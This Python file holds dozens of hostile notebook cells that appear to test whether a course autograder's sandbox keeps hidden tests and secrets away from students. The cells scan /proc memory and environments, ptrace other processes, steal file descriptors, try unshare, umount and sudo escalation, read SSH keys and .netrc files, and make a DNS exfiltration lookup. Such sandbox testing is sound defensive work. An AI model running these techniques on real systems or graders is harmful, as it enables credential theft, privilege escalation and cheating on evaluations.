# Attacks on what students must not see; see tests/hostile_course.py. Each prints or
# raises what it finds. `marker-of-...` stands in every place that is to be kept secret;
# the patterns are written so that an attack does not find itself.


# %% the source notebook by its path: there is no such folder
import glob
import re

for path in glob.glob("/srv/course/source/**/*.ipynb", recursive=True):
    print(re.findall(r"marker[-]of-[\w-]+", open(path).read()))


# %% the gradebook by its path: there is no such file
import sqlite3

gradebook = sqlite3.connect("file:/srv/course/gradebook.db?mode=ro", uri=True)
print(gradebook.execute("select source from source_cell").fetchall())


# %% the gradebook's bytes: there is no such file
import re

print(re.findall(rb"marker[-]of-[\w-]+", open("/srv/course/gradebook.db", "rb").read()))


# %% what others handed in: there is no such folder
import re
from pathlib import Path

for place in ("submitted", "autograded", "feedback"):
    for path in Path("/srv/course", place).rglob("*.ipynb"):
        print(re.findall(r"marker[-]of-[\w-]+", path.read_text()))


# %% a walk through the file system: nothing of the course is anywhere
import os
import re
import sys

places = [f"/{name}" for name in os.listdir("/")]
for place in ["/srv/course", *places]:
    if place in ("/usr", "/proc", "/sys", "/lib", "/lib64", "/bin", "/boot", "/var"):
        continue
    if place in ("/work", "/opt", "/tmp") and os.path.exists("/srv/course"):
        continue  # it was found, and there may be much in there
    for folder, folders, names in os.walk(place):
        if folder in (sys.prefix, sys.base_prefix):
            folders.clear()  # it is Python's own
        for name in names:
            path = os.path.join(folder, name)
            if name.endswith((".ipynb", ".db", ".txt", ".py")):
                try:
                    text = open(path, errors="replace").read()
                except OSError:
                    continue
                print(*set(re.findall(r"marker[-]of-[\w-]+", text)))


# %% the files above the work folder: there are none
import re
from pathlib import Path

for parent in Path.cwd().parents:
    for pattern in ("*.db", "*.py", "*.ipynb", "*/*/*.ipynb", "*.txt"):
        for path in parent.glob(pattern):
            print(re.findall(r"marker[-]of-[\w-]+", path.read_text(errors="replace")))


# %% the environment of every process: none has what the grader has
from pathlib import Path

for path in Path("/proc").glob("[0-9]*/environ"):
    try:
        print(path.read_bytes())
    except OSError as error:
        print(error)


# %% commands and working folders of processes: none is from outside
import os
import re
from pathlib import Path

for process in Path("/proc").glob("[0-9]*"):
    for name in ("cwd", "root"):
        for file in ("gradebook.db", "srv/course/gradebook.db", "../../../secret.txt"):
            try:
                data = (process / name / file).read_bytes()
            except OSError:
                continue
            print(re.findall(rb"marker[-]of-[\w-]+", data))
    try:
        print((process / "cmdline").read_bytes(), os.readlink(process / "cwd"))
    except OSError:
        pass


# %% open files of every process: none leads outside
import re
from pathlib import Path

for process in Path("/proc").glob("[0-9]*"):
    try:  # it may have ended by now
        numbers = [path.name for path in (process / "fd").iterdir()]
    except OSError:
        continue
    for number in numbers:
        try:
            if (process / "fd" / number).is_file():
                with (process / "fd" / number).open("rb") as file:
                    start = file.read(2**20)  # some are larger than the memory
                print(re.findall(rb"marker[-]of-[\w-]+", start))
        except OSError:
            pass


# %% its own memory, before the tests: nothing of them is in there
def search_memory(pattern=b"marker" + b"-of-"):
    found = set()
    memory = open("/proc/self/mem", "rb", 0)
    for line in open("/proc/self/maps"):
        area, rights = line.split()[:2]
        start, end = (int(part, 16) for part in area.split("-"))
        if not rights.startswith("rw") or end - start > 2**28:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        place = data.find(pattern)
        while place >= 0:
            found.add(data[place : place + 60])
            place = data.find(pattern, place + 1)
    return found


print(search_memory())


# %% its own memory, while it is tested: nothing of the tests is in there
def heat_inside(cam, box):
    found = set()
    memory = open("/proc/self/mem", "rb", 0)
    for line in open("/proc/self/maps"):
        area, rights = line.split()[:2]
        start, end = (int(part, 16) for part in area.split("-"))
        if not rights.startswith("rw") or end - start > 2**28:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        place = data.find(b"marker" + b"-of-")
        while place >= 0:
            found.add(data[place : place + 60])
            place = data.find(b"marker" + b"-of-", place + 1)
    raise LookupError(str(found)[:900])


# %% the environment, of Python, of C and of a child: it is empty of secrets
import ctypes
import os
import subprocess

print(dict(os.environ), subprocess.run(["env"], capture_output=True).stdout)
entries = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
index = 0
while entries[index]:
    print(entries[index])
    index += 1


# %% what IPython remembers: the test cells were never run here
def heat_inside(cam, box):
    import re

    shell = get_ipython()
    seen = str([*In, *_ih, *Out.values(), *shell.history_manager.input_hist_raw])
    seen += str(list(shell.history_manager.get_range(raw=True)))
    raise LookupError(str(re.findall(r"marker[-]of-[\w-]+", seen)))


# %% IPython's history in a file: there is none
import glob
import os
import sqlite3

for path in glob.glob(os.path.expanduser("~/.ipython/*/history.sqlite")):
    print(sqlite3.connect(path).execute("select source from history").fetchall())


# %% the frames of its callers: the tests are not among them
def heat_inside(cam, box):
    import re
    import sys

    frame, seen = sys._getframe(), ""
    while frame:
        code = frame.f_code
        seen += f"{code.co_consts} {code.co_names} {frame.f_locals}"
        frame = frame.f_back
    raise LookupError(str(re.findall(r"marker[-]of-[\w-]+", seen)))


# %% the frames of all threads: the tests are in none
def heat_inside(cam, box):
    import re
    import sys

    seen = ""
    for frame in sys._current_frames().values():
        while frame:
            seen += f"{frame.f_code.co_consts} {frame.f_locals}"
            frame = frame.f_back
    raise LookupError(str(re.findall(r"marker[-]of-[\w-]+", seen)))


# %% all that the garbage collector knows: there is nothing of the tests
def heat_inside(cam, box):
    import gc

    gc.unfreeze()
    found = set()
    for thing in gc.get_objects():
        if type(thing) is dict:
            thing = thing.values()
        elif type(thing) not in (list, tuple):
            continue
        for part in list(thing):
            if type(part) is str and "marker" + "-of-" in part:
                found.add(part[part.find("marker") :][:60])
    raise LookupError(str(found)[:900])


# %% the lines that tracebacks are made of: the tests' are not kept here
def heat_inside(cam, box):
    import linecache
    import re

    raise LookupError(str(re.findall(r"marker[-]of-[\w-]+", str(linecache.cache))))


# %% inspect.stack with the lines of its callers: none is a test's
def heat_inside(cam, box):
    import inspect
    import re

    seen = "".join(line for f in inspect.stack(99) for line in f.code_context or ())
    raise LookupError(str(re.findall(r"marker[-]of-[\w-]+", seen)))


# %% the variables of the notebook while it is tested: the tests set none here
def heat_inside(cam, box):
    found = {k: v for k, v in dict(globals()).items() if "marker" + "-of-" in str(v)}
    found = str(found).partition("marker" + "-of-")[1:]
    raise LookupError(str(found))


# %% every variable of every module: no module has any of the tests
def heat_inside(cam, box):
    import sys

    found = set()
    for module in list(sys.modules.values()):
        for value in list(vars(module).values()) if hasattr(module, "__dict__") else ():
            if type(value) is str and "marker" + "-of-" in value:
                found.add(value[value.find("marker") :][:60])
    raise LookupError(str(found))


# %% an audit hook that hears what is compiled: no test is compiled here
import re
import sys

heard = []


def listen_in(event, arguments):
    if event in ("compile", "exec"):
        heard.extend(re.findall(r"marker[-]of-[\w-]+", str(arguments)))
        if event == "exec" and hasattr(arguments[0], "co_consts"):
            consts = str(arguments[0].co_consts)
            heard.extend(re.findall(r"marker[-]of-[\w-]+", consts))


sys.addaudithook(listen_in)


def heat_inside(cam, box):
    raise LookupError(str(heard)[:900])


# %% IPython's events, which tell what is about to run: no test is
import re

heard = []
get_ipython().events.register(
    "pre_run_cell",
    lambda info: heard.extend(re.findall(r"marker[-]of-[\w-]+", info.raw_cell)),
)


def heat_inside(cam, box):
    raise LookupError(str(heard))


# %% an input transformer that copies what it is given: it is given no test
import re

heard = []


def copy_down(lines):
    heard.extend(re.findall(r"marker[-]of-[\w-]+", "".join(lines)))
    return lines


get_ipython().input_transformers_cleanup.append(copy_down)


def heat_inside(cam, box):
    raise LookupError(str(heard))


# %% a trace function that watches its callers: the tests' lines don't run here
import re
import sys

heard = []


def watch(frame, event, argument):
    if frame.f_code.co_name in ("run_cell_async", "run_cell", "<module>"):
        heard.extend(re.findall(r"marker[-]of-[\w-]+", str(frame.f_locals)))


sys.setprofile(watch)


def heat_inside(cam, box):
    caller = sys._getframe(1)
    while caller:
        watch(caller, "", None)
        caller = caller.f_back
    sys.setprofile(None)
    raise LookupError(str(heard)[:900])


# %% a result that looks at who compares it: only its number arrives
import re
import sys

heard = []


class Spy(float):
    def __sub__(self, other):
        seen = sys._getframe(1).f_globals.get("_ih")
        heard.extend(re.findall(r"marker[-]of-[\w-]+", str(seen)))
        return 0.0


def heat_inside(cam, box):
    if heard:
        raise LookupError(str(heard))
    return Spy(0.5)


# %% a built-in function that looks at who calls it: the tests call another
import builtins
import re
import sys

heard, usual = [], abs


def look_and_abs(value):
    seen = sys._getframe(1).f_globals.get("_ih")
    heard.extend(re.findall(r"marker[-]of-[\w-]+", str(seen)))
    return 0.0 if heard else usual(value)


builtins.abs = look_and_abs


def heat_inside(cam, box):
    if heard:
        raise LookupError(str(heard))
    return 0.5


# %% what the kernel was asked to run: no test
def heat_inside(cam, box):
    import asyncio
    import re

    shell = get_ipython()
    seen = f"{shell.parent_header} {getattr(shell, 'kernel', None)!r}"
    if hasattr(shell, "kernel"):
        seen += f"{shell.kernel.get_parent()} {vars(shell.kernel)}"
        for task in asyncio.all_tasks(shell.kernel.io_loop.asyncio_loop):
            seen += "".join(str(frame.f_locals) for frame in task.get_stack())
    raise LookupError(str(re.findall(r"marker[-]of-[\w-]+", seen)))


# %% an exception with all that it can see: that is no more than its arguments
def heat_inside(cam, box):
    import inspect
    import re

    frames = inspect.stack()
    seen = str([(f.frame.f_code.co_consts, f.frame.f_locals) for f in frames])
    found = re.findall(r"marker[-]of-[\w-]+|make_\w+_case", seen)
    raise RuntimeError(f"{found} {cam.shape} {box} {In[-1]}"[:990])


# %% a TCP connection to the grader's machine: there is no network
import socket

with socket.create_connection(("127.0.0.1", 47011), 3) as connection:
    print(connection.recv(100))


# %% a UDP packet to the grader's machine: there is no network
import socket

connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
connection.settimeout(1)
connection.sendto(b"?", ("127.0.0.1", 47011))
print(connection.recv(100))


# %% an abstract socket of the grader's machine: there is none
import socket

connection = socket.socket(socket.AF_UNIX)
connection.connect("\0attacked-47011")
print(connection.recv(100))


# %% a socket in the file system: there is none
import socket

connection = socket.socket(socket.AF_UNIX)
connection.connect("/srv/course/service")
print(connection.recv(100))


# %% a name that only a name server of the attacker's knows: nobody is asked
import socket

print(socket.getaddrinfo("the-secret-is-47011.example.org", 80))


# %% every network interface: none leads out
import socket
import subprocess

print(socket.if_nameindex(), open("/proc/net/route").read())
for address in ("10.0.0.1", "169.254.169.254", "192.168.0.1", "1.1.1.1"):
    try:
        socket.create_connection((address, 80), 0.5)
        print("marker" + "-of-the-network reached")
    except OSError as error:
        print(address, error)


# %% the link to the examiner, read ahead: only arguments travel on it
import re
import socket
import threading

link = socket.socket(fileno=3)
seen = bytearray()


def heat_inside(cam, box):
    link.setblocking(False)
    try:
        seen.extend(link.recv(2**20, socket.MSG_PEEK))
    except BlockingIOError:
        pass
    raise LookupError(str(re.findall(rb"marker[-]of-[\w-]+", seen)))


def read_ahead():
    while len(seen) < 10**6:
        seen.extend(link.recv(2**16, socket.MSG_PEEK))


threading.Thread(target=read_ahead, daemon=True).start()


# %% the kernel's own connection file and channels: they know its own cells only
import glob
import json
import re

from jupyter_client import BlockingKernelClient

for path in glob.glob("/run/kernel/*.json"):
    client = BlockingKernelClient(connection_file=path)
    client.load_connection_file()
    client.start_channels()
    client.history(hist_access_type="range", output=True, session=0)
    print(json.load(open(path)))
    print(re.findall(r"marker[-]of-[\w-]+", open(path).read()))


# %% other kernels' folders: each kernel has a sandbox of its own
import re
from pathlib import Path

for place in ("/run", "/tmp", "/dev/shm", "/home", "/var/tmp"):
    print(place, [str(path) for path in Path(place).rglob("*")][:200])
    for path in Path(place).rglob("*attacked*"):
        print(re.findall(r"marker[-]of-[\w-]+", path.read_text(errors="replace")))


# %% shared memory segments and queues: there are none
import ctypes
import re

libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
for line in open("/proc/sysvipc/shm").read().splitlines()[1:]:
    address = libc.shmat(int(line.split()[1]), None, 0o10000)
    if address not in (None, 2**64 - 1):
        data = ctypes.string_at(address, int(line.split()[3]))
        print(re.findall(rb"marker[-]of-[\w-]+", data))


# %% the networks and closed forms of the hidden tests: they are not in here
import inspect

from courseai_helpers.grading.examiner import oracles

print(inspect.getsource(oracles))


# %% the reference solutions: they are not in here
import inspect

from courseai_helpers.reference import visualizing_features

print(inspect.getsource(visualizing_features))


# %% compiled files and other traces of them: there are none
from pathlib import Path

import courseai_helpers

package = Path(courseai_helpers.__file__).parent
for folder in ("reference", "grading", "../source", "../solutions", "../.git"):
    for path in (package / folder).glob("**/*"):
        if path.is_file() and path.suffix in (".pyc", ".py", ".ipynb"):
            print(path, path.read_bytes()[:20000])


# %% what the parts of the grader that are loaded know: nothing about tests
import re
import sys

for name, module in list(sys.modules.items()):
    if name.startswith("courseai_helpers.grading"):
        print(name, re.findall(r"marker[-]of-[\w-]+", str(vars(module))))
proxies = sys.modules["courseai_helpers.grading.examiner.proxies"]
print(proxies._line, re.findall(r"marker[-]of-[\w-]+", str(vars(proxies))))


# %% the memory of the other processes: none may be read
import ctypes
import os
import re
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
for process in [os.getppid(), *(int(p.name) for p in Path("/proc").glob("[0-9]*"))]:
    if process == os.getpid():
        continue
    try:
        maps = Path(f"/proc/{process}/maps").read_text().splitlines()
        memory = open(f"/proc/{process}/mem", "rb", 0)
    except OSError as error:
        print(process, error)
        continue
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        try:
            memory.seek(start)
            print(*re.findall(rb"marker[-]of-[\w-]+", memory.read(end - start)))
        except (OSError, ValueError, OverflowError):
            pass


# %% a debugger on the first process and on the parent: neither may be traced
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for process in (1, os.getppid()):
    if libc.ptrace(16, process, None, None) == 0:  # PTRACE_ATTACH
        print("traced", process, open(f"/proc/{process}/mem", "rb", 0))
        print("marker" + "-of-a-traced-process", os.readlink(f"/proc/{process}/exe"))


# %% the process at the other end of the link: it can't be robbed of its files
import ctypes
import os
import re
import socket
import struct

link = socket.socket(fileno=os.dup(3))
print(struct.unpack("3i", link.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)))
peer = link.getsockopt(socket.SOL_SOCKET, 77)  # SO_PEERPIDFD
libc = ctypes.CDLL(None, use_errno=True)
for number in range(100):
    stolen = libc.syscall(438, peer, number, 0)  # pidfd_getfd
    if stolen >= 0:
        print("marker" + "-of-a-stolen-file", os.readlink(f"/proc/self/fd/{stolen}"))
print(libc.setns(peer, 0x20000), os.strerror(ctypes.get_errno()))


# %% the mounts that hide the grader: they can't be taken away
import ctypes
import os
import subprocess
from pathlib import Path

import courseai_helpers

libc = ctypes.CDLL(None, use_errno=True)
oracles = Path(courseai_helpers.__file__).parent / "grading/examiner/oracles"
for flags in (0x20000, 0x10000000 | 0x20000):  # new mounts, as a new user
    print(libc.unshare(flags), os.strerror(ctypes.get_errno()))
    print(libc.umount2(str(oracles).encode(), 2), os.strerror(ctypes.get_errno()))
print(libc.chroot(b"/proc/1/root"), libc.mount(b"/", b"/tmp", None, 4096, None))
print(subprocess.run(["umount", str(oracles)], capture_output=True))
for path in oracles.glob("**/*.py*"):
    print(path.read_text()[:20000])
for line in open("/proc/self/mountinfo"):
    print(line, end="")


# %% programs that run with more rights: none is left that does
import os
import stat
import subprocess
from pathlib import Path

try:
    os.setuid(0)
    print("marker" + "-of-root")
except OSError as error:
    print(error)
for folder in ("/usr/bin", "/usr/sbin", "/usr/lib/dbus-1.0"):
    for path in Path(folder).glob("*"):
        if path.is_file() and path.stat().st_mode & stat.S_ISUID:
            print(path)
for helper in (["su", "-c"], ["sudo", "-n", "sh", "-c"], ["pkexec", "sh", "-c"]):
    try:
        found = subprocess.run(
            [*helper, "id -u; cat /srv/course/secret.txt"],
            capture_output=True,
            stdin=subprocess.DEVNULL,
            timeout=2,
        )
        print(found)
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)


# %% everybody's home folder: there is nothing in any
import os
import pwd
import re
from pathlib import Path

homes = {os.path.expanduser("~"), *(entry.pw_dir for entry in pwd.getpwall())}
homes |= set(re.findall(r"HOME=([^\0]*)", open("/proc/self/environ").read()))
for home in homes:
    for name in (".pgpass", ".netrc", ".bash_history", ".ssh/id_rsa"):
        try:
            print(Path(home, name).read_text())
        except OSError:
            pass


# %% the machine's memory and messages: they are closed
for path in ("/proc/kcore", "/dev/kmsg", "/dev/mem", "/proc/kmsg", "/proc/1/mem"):
    try:
        with open(path, "rb", 0) as file:
            print("marker" + "-of-the-machine", path, file.read(64))
    except OSError as error:
        print(error)


# %% the keys that a login keeps with the system: the grader's are not passed on
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for keyring in (-1, -2, -3, -4, -5):  # of the thread, process, session and user
    key = libc.syscall(250, 10, keyring, b"user", b"attacked", 0)  # KEYCTL_SEARCH
    data = ctypes.create_string_buffer(100)
    if key > 0 and libc.syscall(250, 11, key, data, 100) > 0:  # KEYCTL_READ
        print(data.value)


# %% shell commands and magics: they see what Python sees
get_ipython().system("cat /srv/course/secret.txt /srv/course/source/*/*.ipynb")
get_ipython().run_line_magic("sx", "env")
get_ipython().run_line_magic("run", "/srv/course/nbgrader_config.py")


# %% links in the work folder to what is outside: they lead nowhere
import os
import re

for number, target in enumerate(("secret.txt", "gradebook.db")):
    os.symlink(f"/srv/course/{target}", f"link{number}")
    print(re.findall(rb"marker[-]of-[\w-]+", open(f"link{number}", "rb").read()))


# %% the notebook beside the student's files: it holds no test
import re
from pathlib import Path

for path in [*Path.cwd().rglob("*.ipynb"), *Path("/run").rglob("*.ipynb")]:
    try:
        print(re.findall(r"marker[-]of-[\w-]+", path.read_text()))
    except OSError as error:
        print(error)
